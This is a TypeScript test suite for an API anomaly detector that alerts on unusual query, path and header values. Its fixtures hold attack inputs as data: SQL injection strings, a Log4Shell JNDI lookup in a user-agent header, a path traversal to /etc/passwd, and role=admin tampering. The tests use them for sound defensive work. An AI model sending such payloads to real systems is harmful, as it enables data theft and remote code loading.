import { apiCallSchema, type Alert, type ApiCall } from '@tripline/model';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { randomFrom } from '../../../test-support/program.ts';
import { toleranceOf } from '../../baseline/sensitivity.ts';
import {
  abnormalParameterReleasesAt,
  abnormalParameterStateKey,
  closeParameterEpisodes,
  foldAbnormalParameter,
  parameterEpisodesCloseAt,
  parameterLimitsAt,
  releaseAbnormalParameter,
} from './abnormal-parameter.ts';
import {
  decodeAbnormalParameter,
  decodeParameterEpisodes,
  encodeAbnormalParameter,
  encodeParameterEpisodes,
  newAbnormalParameterState,
  newParameterEpisodes,
  type AbnormalParameterState,
  type ParameterEpisodes,
} from './abnormal-parameter-state.ts';
import { ByteReader } from '../../codec/byte-reader.ts';
import { ByteWriter } from '../../codec/byte-writer.ts';

const MINUTE_MS = 60_000;
const START_MS = Date.parse('2026-03-02T00:00:00Z');

function call(consumer: string, atMinutes: number, change: Partial<ApiCall> = {}): ApiCall {
  return apiCallSchema.parse({
    id: `call-${consumer}-${atMinutes}`,
    startedAt: START_MS + Math.round(atMinutes * MINUTE_MS),
    actorKind: 'consumer',
    actorId: consumer,
    actorName: consumer,
    consumerId: consumer,
    ip: '192.0.2.7',
    method: 'GET',
    path: `/orders/${10_000 + Math.floor(atMinutes)}`,
    endpoint: 'GET /orders/{id}',
    service: 'orders',
    query: { view: ['full'], status: ['open'] },
    status: 200,
    source: 'upstream',
    requestBytes: 100,
    responseBytes: 100,
    latencyMs: 5,
    ...change,
  }) as ApiCall;
}

const limits = parameterLimitsAt(toleranceOf('normal'));

/** All endpoints of a partition, as the processor keeps them. */
class Endpoints {
  readonly states = new Map<string, AbnormalParameterState>();
  episodes: ParameterEpisodes = newParameterEpisodes();

  fold(one: ApiCall): Alert[] {
    return foldAbnormalParameter(this.of(one), this.episodes, one, limits);
  }

  close(nowMs: number): Alert[] {
    const alerts = [...this.states.values()].flatMap((state) =>
      releaseAbnormalParameter(state, this.episodes, nowMs, limits),
    );
    return [...alerts, ...closeParameterEpisodes(this.episodes, nowMs)];
  }

  /** The states go through their text. */
  renew(): void {
    for (const [key, state] of this.states) {
      const writer = new ByteWriter();
      if (encodeAbnormalParameter(state, writer))
        this.states.set(key, decodeAbnormalParameter(new ByteReader(writer.take())));
    }
    const writer = new ByteWriter();
    encodeParameterEpisodes(this.episodes, writer);
    this.episodes = decodeParameterEpisodes(new ByteReader(writer.take()));
  }

  of(one: ApiCall): AbnormalParameterState {
    const key = abnormalParameterStateKey(one);
    const state = this.states.get(key) ?? newAbnormalParameterState();
    this.states.set(key, state);
    return state;
  }
}

function learnt(): Endpoints {
  const state = new Endpoints();
  const random = randomFrom(3);
  for (let at = 0; at < 300; at++) {
    const status = ['open', 'open', 'paid', 'shipped'][Math.floor(random() * 4)]!;
    expect(
      state.fold(call(`c${at % 9}`, at * 6 - 1_600, { query: { view: ['full'], status: [status] } })),
    ).toEqual([]);
  }
  return state;
}

describe('abnormal-parameter', () => {
  it('raises one alert for an attack of many calls, with reasons, samples and references, and closes it', () => {
    const state = learnt();
    const revisions: Alert[] = [];
    for (let at = 0; at < 20; at++) {
      const query = { view: ['full'], status: [`open' UNION SELECT ${at}--`] };
      revisions.push(...state.fold(call('eve', 300 + at / 10, { query })));
    }
    revisions.push(...state.close(START_MS + 500 * MINUTE_MS));
    expect(new Set(revisions.map((one) => one.id)).size).toBe(1);
    expect(revisions.map((one) => one.revision)).toEqual(revisions.map((_, at) => at + 1));
    const last = revisions.at(-1)!;
    expect(last).toMatchObject({
      type: 'abnormal-parameter',
      status: 'closed',
      count: 20,
      endpoint: 'GET /orders/{id}',
      service: 'orders',
      actor: { kind: 'consumer', id: 'eve' },
      sources: [{ ip: '192.0.2.7', count: 20 }],
    });
    expect(last.severity).not.toBe('low');
    expect(last.sampleCallIds.length).toBe(20);
    expect(last.references).toContain('CWE-89');
    expect(last.summary).toContain('status');
    expect(JSON.stringify(revisions)).not.toContain('UNION');
    expect(parameterEpisodesCloseAt(state.episodes)).toBeUndefined();
  });

  it('raises one alert about the endpoint for what many addresses do there, after one for each of the first five', () => {
    const state = learnt();
    const revisions: Alert[] = [];
    const attack = (address: number, at: number): ApiCall =>
      call(`198.51.100.${address}`, at, {
        actorKind: 'address',
        ip: `198.51.100.${address}`,
        query: { view: ['full'], status: [`open' UNION SELECT ${at}--`] },
      });
    for (let address = 0; address < 40; address++)
      revisions.push(...state.fold(attack(address, 300 + address / 10)));
    // Who has an alert keeps it.
    revisions.push(...state.fold(attack(0, 306)));
    revisions.push(...state.close(START_MS + 500 * MINUTE_MS));
    const last = [...new Map(revisions.map((one) => [one.id, one])).values()];
    expect(last.map(({ actor, count }) => `${actor.kind} ${actor.name}: ${count}`)).toEqual([
      'address 198.51.100.0: 2',
      'address 198.51.100.1: 1',
      'address 198.51.100.2: 1',
      'address 198.51.100.3: 1',
      'address 198.51.100.4: 1',
      'endpoint orders GET /orders/{id}: 35',
    ]);
    expect(last.at(-1)!.sources).toHaveLength(20);
  });

  it('judges path parameters, too', () => {
    const alerts = learnt().fold(call('eve', 300, { path: "/orders/1' OR '1'='1" }));
    expect(alerts[0]?.summary).toContain('{0}');
  });

  it('judges the values of headers that the operator keeps, and takes no offence at a header that is new', () => {
    const state = new Endpoints();
    const agent = (at: number): Record<string, string> => ({
      'user-agent': `Mozilla/5.0 (X11; Linux x86_64; rv:${100 + (at % 30)}.0) Gecko/${at} Firefox/${at % 30}.0`,
      'x-region': ['eu', 'us'][at % 2]!,
    });
    for (let at = 0; at < 300; at++)
      state.fold(call(`c${at % 9}`, at * 6 - 1_600, { headers: at % 10 ? agent(at) : {} }));
    const other = { ...agent(7), 'x-client-version': '7.1.4' };
    expect(state.fold(call('c1', 300, { headers: other }))).toEqual([]);
    expect(state.fold(call('c1', 301, { headers: { 'user-agent': 'curl/8.5.0' } }))).toEqual([]);
    expect(abnormalParameterReleasesAt(state.of(call('c1', 300)))).toBeUndefined();
    const lookup = { ...agent(7), 'user-agent': '${jndi:ldap://x.example.net/a}' };
    expect(state.fold(call('eve', 302, { headers: lookup }))[0]?.summary).toContain('header:user-agent');
    const injection = { ...agent(8), 'x-region': "eu' OR '1'='1" };
    expect(state.fold(call('mallory', 303, { headers: injection }))[0]?.summary).toContain('header:x-region');
  });

  it.each([
    ['a new enum value', { view: ['full'], status: ['refunded'] }],
    ['a new optional parameter', { view: ['full'], status: ['open'], include: ['items'] }],
  ])('takes %s that many consumers bring within minutes for a rollout', (_, query) => {
    const state = learnt();
    const alerts: Alert[] = [];
    for (let at = 0; at < 40; at++) alerts.push(...state.fold(call(`c${at % 9}`, 300 + at, { query })));
    alerts.push(...state.close(Infinity));
    expect(alerts).toEqual([]);
  });

  it('alerts on the same from one consumer alone, when the others have had ten minutes', () => {
    const state = learnt();
    const query = { view: ['full'], status: ['refunded'] };
    expect(state.fold(call('eve', 300, { query }))).toEqual([]);
    expect(abnormalParameterReleasesAt(state.of(call('eve', 300)))).toBe(START_MS + 310 * MINUTE_MS);
    const alerts = state.fold(call('c1', 330));
    expect(alerts.map((one) => [one.actor.id, one.raisedAt])).toEqual([['eve', START_MS + 310 * MINUTE_MS]]);
  });

  it('does not take role=admin for a rollout, however many consumers send it', () => {
    const state = learnt();
    const query = { view: ['full'], status: ['open'], role: ['admin'] };
    const actors = new Set<string>();
    for (let at = 0; at < 20; at++) {
      for (const alert of state.fold(call(`c${at % 9}`, 300 + at, { query }))) actors.add(alert.actor.id);
    }
    expect(actors.size).toBe(9);
  });

  it('learns neither from what failed nor from what is unusual nor from what Kong refused', () => {
    const state = learnt();
    const before = state.of(call('c1', 300)).profile.calls;
    state.fold(call('c1', 300, { status: 404 }));
    state.fold(call('c1', 301, { refused: true, status: 403, source: 'kong' }));
    state.fold(call('c1', 302, { query: { view: ['full'], status: ["x' or 1=1"] } }));
    expect(state.of(call('c1', 300)).profile.calls).toBe(before);
  });

  it('is one alert for who tries several endpoints', () => {
    const state = new Endpoints();
    const other = { endpoint: 'GET /files', path: '/files', service: 'files' };
    for (let at = 0; at < 300; at++) {
      state.fold(call(`c${at % 9}`, at * 6 - 1_600));
      state.fold(call(`c${at % 9}`, at * 6 - 1_597, { ...other, query: { path: [`img/${at}.png`] } }));
    }
    const alerts: Alert[] = [];
    for (let at = 0; at < 10; at++) {
      alerts.push(...state.fold(call('eve', 300 + at, { path: "/orders/1' OR '1'='1" })));
      const query = { path: ['../../../../etc/passwd'] };
      alerts.push(...state.fold(call('eve', 300.5 + at, { ...other, query })));
    }
    alerts.push(...state.close(Infinity));
    expect(new Set(alerts.map(({ id }) => id)).size).toBe(1);
    expect(alerts.at(-1)).toMatchObject({ count: 20, endpoint: null, service: null, status: 'closed' });
    expect(alerts.at(-1)!.evidence['endpoints']).toEqual([
      { endpoint: 'GET /files', count: 10 },
      { endpoint: 'GET /orders/{id}', count: 10 },
    ]);
    expect(alerts.at(-1)!.summary).toContain('2 endpoints');
  });

  it('finds in calls that come hours late what it would have found in time, as one alert', () => {
    const state = learnt();
    state.fold(call('c1', 700));
    const alerts: Alert[] = [];
    for (let at = 0; at < 8; at++) {
      alerts.push(...state.fold(call('eve', 300 + at, { path: "/orders/1' OR '1'='1" })));
      alerts.push(...state.fold(call('c2', 700 + at)));
      alerts.push(...state.close(START_MS + (690 + at) * MINUTE_MS));
    }
    alerts.push(...state.close(Infinity));
    expect(new Set(alerts.map(({ id }) => id)).size).toBe(1);
    expect(alerts.at(-1)).toMatchObject({
      count: 8,
      status: 'closed',
      startedAt: START_MS + 300 * MINUTE_MS,
      lastSeenAt: START_MS + 307 * MINUTE_MS,
    });
  });

  it('does not learn from who is under alert, and does again an hour later', () => {
    const state = learnt();
    const before = state.of(call('c1', 300)).profile.calls;
    state.fold(call('c1', 300, { path: "/orders/1' OR '1'='1" }));
    state.fold(call('c1', 301));
    expect(state.of(call('c1', 300)).profile.calls).toBe(before);
    state.fold(call('c1', 362));
    expect(state.of(call('c1', 300)).profile.calls).toBe(before + 1);
  });

  it('gives the same alerts wherever the states are encoded and decoded in between', () => {
    let raised = 0;
    const odd: Partial<ApiCall>[] = [
      { query: { view: ['full'], status: ['refunded'] } },
      { query: { view: ['full'], status: ['open'], include: ['items'] } },
      { query: { view: ['full'], status: ["open' UNION SELECT 1--"] } },
      { path: '/orders/abc', status: 404 },
      { endpoint: 'GET /orders/{id}.bak', path: '/orders/7.bak', status: 404 },
    ];
    fc.assert(
      fc.property(fc.nat(1_000_000), fc.integer({ min: 1, max: 60 }), (seed, every) => {
        const [straight, renewed] = [new Endpoints(), new Endpoints()];
        const random = randomFrom(seed);
        for (let at = 0; at < 500; at++) {
          const isOdd = at > 250 && random() < 0.2;
          const late = random() < 0.1 ? (random() < 0.5 ? 5 : 300) : 0;
          const next = call(`c${Math.floor(random() * 7)}`, at * 6 - late, {
            ...(random() < 0.3
              ? { endpoint: 'GET /files/{id}', path: `/files/${at}`, service: 'files' }
              : {}),
            ...(isOdd ? odd[Math.floor(random() * odd.length)] : {}),
          });
          if (at % every === 0) renewed.renew();
          const alerts = straight.fold(next);
          raised += alerts.length;
          expect(renewed.fold(next)).toEqual(alerts);
          if (random() < 0.05) expect(renewed.close(next.startedAt)).toEqual(straight.close(next.startedAt));
        }
        expect(renewed.close(Infinity)).toEqual(straight.close(Infinity));
      }),
      { numRuns: 15, seed: 1 },
    );
    expect(raised, 'the calls must raise alerts for this to prove anything').toBeGreaterThan(50);
  });
});
